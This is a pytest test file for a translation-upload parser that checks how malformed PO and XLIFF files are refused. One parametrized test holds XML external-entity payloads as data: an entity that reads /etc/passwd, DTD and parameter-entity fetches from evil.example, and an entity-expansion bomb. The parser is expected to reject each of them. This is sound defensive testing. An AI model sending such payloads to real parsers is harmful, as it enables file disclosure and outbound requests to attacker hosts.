"""A file that cannot be used is refused, with line and reason, and nothing in it is carried out."""

from __future__ import annotations

import pytest

from editorial.exchange import uploading
from editorial.exchange.units import BadFile

HEAD = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: es\\n"\n\n'
UNIT = 'msgctxt "entry:mao-shui:gloss:0:3"\nmsgid "cat tax"\nmsgstr "impuesto"\n'
XLIFF = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="es">\n'
    '<file id="f">\n{}\n</file>\n</xliff>\n'
)
XUNIT = (
    '<unit id="entry:mao-shui:gloss:0:3"><segment state="translated">\n'
    "<source>cat tax</source>\n<target>{}</target></segment></unit>"
)


def fault(data: str | bytes, language="es"):
    """Return the line and the reason with which a file is refused."""
    with pytest.raises(BadFile) as caught:
        uploading.read(data.encode() if isinstance(data, str) else data, language=language)
    return caught.value.problems[0]


def told(data: str):
    return uploading.read(data.encode(), language="es").told


# ── PO ──────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("broken", "line"),
    [
        (HEAD + 'msgctxt "x\nmsgid "a"\nmsgstr "b"\n', 6),
        (HEAD + 'msgid "a"\nmsgstr "say "no" to it"\n', 7),
        (HEAD + 'msgid "a"\nmsgstr "odd \\q sign"\n', 7),
        (HEAD + 'msgid "a"\nmsgid_plural "b"\nmsgstr[0] "c"\n', 7),
        (HEAD + 'msgid "a"\nmsgstr "b"\nmsgstr "c"\n', 8),
        (HEAD + 'msgid "a"\n\nmsgid "b"\nmsgstr "c"\n', 6),
        (HEAD + UNIT + "half a line", 9),
        (HEAD + UNIT.replace("entry:mao-shui:gloss:0:3", "button"), 6),
        (HEAD + 'msgid "cat tax"\nmsgstr "impuesto"\n', 6),
    ],
)
def test_broken_po_is_refused_with_its_line(broken, line):
    found = fault(broken)
    assert (found.line, bool(found.reason)) == (line, True)


def test_all_unknown_texts_are_named():
    unknown = 'msgid "a"\nmsgstr "b"\n\n'
    with pytest.raises(BadFile) as caught:
        uploading.read((HEAD + unknown * 2 + UNIT).encode(), language="es")
    assert [problem.line for problem in caught.value.problems] == [6, 9]


def test_po_in_another_encoding_is_refused():
    assert fault((HEAD + UNIT).encode() + b'# \xe9\nmsgid "x"\n').line == 9
    assert "UTF-8" in fault(HEAD.replace("UTF-8", "latin-1") + UNIT).reason


def test_po_with_a_mark_at_its_start_and_windows_lines_is_read():
    data = "\ufeff" + (HEAD + UNIT).replace("\n", "\r\n")
    assert told(data)[0].text == "impuesto"


def test_what_a_program_put_aside_is_left_out():
    aside = '#~ msgctxt "entry:mao-shui:gloss:0:3"\n#~ msgid "old"\n#~ msgstr "viejo"\n'
    assert len(told(HEAD + UNIT + "\n" + aside)) == 1


def test_long_texts_over_several_lines_are_joined():
    long = UNIT.replace('msgstr "impuesto"', 'msgstr ""\n"impuesto\\n"\n"gatuno"')
    assert told(HEAD + long)[0].text == "impuesto\ngatuno"


def test_fuzzy_is_seen_beside_other_flags():
    assert told(HEAD + "#, c-format, fuzzy\n" + UNIT)[0].unfinished


# ── XLIFF ───────────────────────────────────────────────────────────────────────────────────


def test_broken_xml_is_refused_with_its_line():
    assert fault(XLIFF.format("<unit>\n<segment>\n</unit>")).line == 6


@pytest.mark.parametrize(
    "attack",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>\n',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n',
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">\n',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x"> %a;]>\n',
    ],
)
def test_nothing_executable_is_taken(attack):
    start, rest = XLIFF.format(XUNIT.format("&b;")).split("\n", 1)
    assert "document type" in fault(start + "\n" + attack + rest).reason


def test_a_document_type_alone_is_refused_with_its_line():
    start, rest = XLIFF.format(XUNIT.format("impuesto")).split("\n", 1)
    assert fault(f"{start}\n<!DOCTYPE xliff>\n{rest}").line == 2


def test_very_deep_files_are_refused():
    assert "deeply" in fault(XLIFF.format("<group>" * 5000)).reason


@pytest.mark.parametrize("inside", ["<ph id='1'/>", "<pc id='1'>x</pc>", "<script>x</script>"])
def test_elements_inside_a_text_are_refused_with_their_line(inside):
    assert fault(XLIFF.format(XUNIT.format(inside))).line == 6


def test_marks_around_words_are_read_through():
    marked = XUNIT.format('im<mrk id="m1" type="term">puesto</mrk>')
    assert told(XLIFF.format(marked))[0].text == "impuesto"


def test_text_that_a_program_cut_up_is_joined():
    cut = (
        '<unit id="entry:mao-shui:gloss:0:3"><segment><source>a.</source><target>A.</target>'
        "</segment><ignorable><source> </source></ignorable>"
        "<segment><source>b.</source><target>B.</target></segment></unit>"
    )
    assert told(XLIFF.format(cut))[0].text == "A. B."


def test_half_a_translation_is_refused():
    half = (
        '<unit id="entry:mao-shui:gloss:0:3"><segment><source>a.</source><target>A.</target>'
        "</segment><segment><source>b.</source></segment></unit>"
    )
    assert fault(XLIFF.format(half)).line == 4


def test_matches_and_notes_of_programs_are_not_taken_for_texts():
    rest = (
        '<mtc:matches xmlns:mtc="urn:oasis:names:tc:xliff:matches:2.0"><mtc:match ref="#x">'
        "<source>a</source><target>wrong</target></mtc:match></mtc:matches>"
    )
    unit = XUNIT.format("impuesto").replace("<segment", rest + "<segment", 1)
    assert told(XLIFF.format(unit))[0].text == "impuesto"


def test_unknown_unit_is_refused_with_its_line():
    assert (
        fault(XLIFF.format("\n<unit id='u1'><segment><source>a</source></segment></unit>")).line
        == 5
    )


@pytest.mark.parametrize(
    ("data", "word"),
    [
        ('<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2"/>', "XLIFF 1"),
        ("<html/>", "not an XLIFF"),
        ('<?xml version="1.0" encoding="nonsense"?><a/>', "encoding"),
    ],
)
def test_other_xml_is_refused(data, word):
    assert word in fault(data).reason


# ── either ──────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("data", "word"),
    [
        (b"", "empty"),
        (b"PK\x03\x04rest", "unpack"),
        (b"\x89PNG\r\n\x1a\n\x00", "UTF-8"),
        (b" " * 5_000_001, "5 MB"),
        (HEAD.encode(), "no text"),
        ((HEAD.replace('"Language: es\\n"\n', "") + UNIT).encode(), "which language"),
        (XLIFF.format("").replace(' trgLang="es"', "").encode(), "which language"),
    ],
)
def test_what_is_no_translation_is_refused(data, word):
    assert word in fault(data).reason


@pytest.mark.parametrize("data", [HEAD + UNIT, XLIFF.format(XUNIT.format("impuesto"))])
def test_another_language_is_refused(data):
    assert "“es”" in fault(data, language="zh-hans").reason


def test_too_many_pages_are_refused():
    units = "\n".join(UNIT.replace("mao-shui", f"page-{number}") for number in range(501))
    assert "500" in fault(HEAD + units.replace('"impuesto"\n', '"impuesto"\n\n')).reason


# ── carrying it on ──────────────────────────────────────────────────────────────────────────


@pytest.fixture
def packed(contributor):
    upload = uploading.read((HEAD + UNIT).encode(), language="es")
    return upload, uploading.pack(upload, [("entry", "mao-shui")], user=contributor, language="es")


def test_what_was_looked_over_is_carried_on(packed, contributor):
    assert uploading.unpack(packed[1], user=contributor, language="es") == packed[0]


def test_nobody_carries_on_for_somebody_else(packed, contributor2):
    with pytest.raises(BadFile):
        uploading.unpack(packed[1], user=contributor2, language="es")


@pytest.mark.parametrize(
    "change", [lambda text: text[:-1], lambda text: "x" + text, lambda text: ""]
)
def test_nobody_changes_what_is_carried(packed, contributor, change):
    with pytest.raises(BadFile):
        uploading.unpack(change(packed[1]), user=contributor, language="es")
